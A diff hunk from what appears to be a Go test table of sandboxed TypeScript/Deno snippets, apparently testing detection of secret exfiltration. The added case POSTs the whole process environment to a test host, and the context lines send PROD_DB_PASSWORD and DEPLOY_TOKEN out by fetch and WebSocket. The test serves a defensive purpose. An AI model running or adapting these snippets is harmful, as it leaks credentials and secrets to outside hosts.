@@ -29,6 +29,10 @@ console.log("still here");`}, "body"},
 console.log("sent", (await fetch("` + catalogHost + `?k=" + Deno.env.get("PROD_DB_PASSWORD"))).status);
 await new Promise((r) => setTimeout(r, 20000));
 console.log("still here");`}, "query"},
+	"TypeScript, all variables": {world.Run{Code: `
+console.log("sent", (await fetch("` + catalogHost + `", { method: "POST", body: JSON.stringify(process.env) })).status);
+await new Promise((r) => setTimeout(r, 20000));
+console.log("still here");`}, "body"},
 	"TypeScript, in a WebSocket": {world.Run{Code: `
 const loot = Deno.env.get("DEPLOY_TOKEN"), ws = new WebSocket("wss://httpbin.test/x/ws?t=1");
 await new Promise((done) => { ws.onopen = () => { ws.send(JSON.stringify({ loot })); }; ws.onclose = done; ws.onerror = done; ws.onmessage = (m) => { if (m.data !== "hello ") console.log("sent 200", m.data); }; });
